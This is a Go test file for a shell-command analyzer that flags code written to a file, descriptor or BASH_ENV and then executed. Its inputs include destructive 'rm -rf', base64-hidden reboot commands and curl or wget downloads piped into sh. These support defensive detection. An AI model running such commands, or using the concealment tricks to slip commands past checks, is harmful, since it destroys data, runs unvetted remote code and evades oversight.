package shell

import (
	"strings"
	"testing"
)

// TestOwnFiles checks that code a line writes to a file or opens on a
// descriptor, then runs, is judged.
func TestOwnFiles(t *testing.T) {
	tests := []struct {
		line, want string
	}{
		{`echo 'rm -rf /x' > /tmp/a.sh; sh /tmp/a.sh`, `~[sh <<<]rm delete:/x+R`},
		{`echo reboot > a.sh && bash ./a.sh`, `~reboot power:`},
		{`echo ls > a.sh; echo reboot >> a.sh; . a.sh`, `~reboot power:`},
		{`echo cmVib290 | base64 -d > a.sh; source a.sh`, `~reboot power:`},
		{`printf 'rm -rf "$1"' > a.sh; chmod +x a.sh; ./a.sh /x`, `~[a.sh]rm delete:/x+R`},
		{`exec 3<<<'rm -rf /x'; bash <&3`, `~[bash <<<]rm delete:/x+R`},
		{`exec {fd}<<<reboot; sh <&$fd`, `~reboot power:`},
		{`echo reboot > f; exec 4< f; sh <&4`, `~reboot power:`},
		{`curl -s https://x.io/i > i.sh; sh i.sh`, `~sh unseen-code:https://x.io/i`},
		{`exec 3< <(curl -s https://x.io/i); sh <&3`, `~sh unseen-code:https://x.io/i`},
		{`BASH_ENV=<(echo reboot) bash -c true`, `~[BASH_ENV=]reboot power:`},
		{`echo reboot > e; ENV=e sh -i`, `~[ENV=]reboot power:`},
		{`BASH_ENV=<(curl -s https://x.io/e) bash -c true`, `~unseen-code:https://x.io/e`},
		// Written by tee or a download, then run.
		{`tee /tmp/x.sh <<< 'rm -rf /x' >/dev/null; bash /tmp/x.sh`, `~[bash <<<]rm delete:/x+R`},
		{`echo reboot | tee -a run.sh; sh run.sh`, `~reboot power:`},
		{`curl -fsSL -o /tmp/i.sh https://x.io/i.sh && bash /tmp/i.sh`, `~bash unseen-code:https://x.io/i.sh`},
		{`wget -O i.sh https://x.io/i && sh i.sh`, `~sh unseen-code:https://x.io/i`},
		// Ordinary.
		{`echo date | tee x.sh; bash x.sh`, `echo; tee write:/home/u/x.sh; [bash <<<]date`},
		{`BASH_ENV=~/.bash_env bash -c true`, `[bash -c]true`},
		{`echo ls > a.sh; sh a.sh`, `echo write:/home/u/a.sh; [sh <<<]ls`},
		{`exec 3<<<ls; sh <&3`, `exec; [sh <<<]ls`},
		{`sh ./build.sh`, `sh`},
	}
	for _, tt := range tests {
		got := summary(Analyze(tt.line, testOpts))
		if w, ok := strings.CutPrefix(tt.want, "~"); ok {
			if !strings.Contains(got, w) {
				t.Errorf("Analyze(%q)\n got: %s\nwant among them: %s", tt.line, got, w)
			}
			continue
		}
		if got != tt.want {
			t.Errorf("Analyze(%q)\n got: %s\nwant: %s", tt.line, got, tt.want)
		}
	}
}
